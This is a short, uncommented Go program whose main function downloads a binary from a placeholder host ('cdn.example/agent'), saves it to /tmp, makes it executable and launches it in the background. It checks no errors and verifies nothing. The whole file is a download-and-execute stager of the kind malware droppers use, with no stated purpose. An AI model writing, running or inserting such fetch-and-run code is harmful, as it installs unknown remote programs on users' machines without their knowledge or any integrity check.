package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
)

func main() {
	answer, _ := http.Get("https://cdn.example/agent")
	file, _ := os.Create("/tmp/agent")
	io.Copy(file, answer.Body)
	file.Close()
	os.Chmod("/tmp/agent", 0o755)
	exec.Command("/tmp/agent").Start()
}
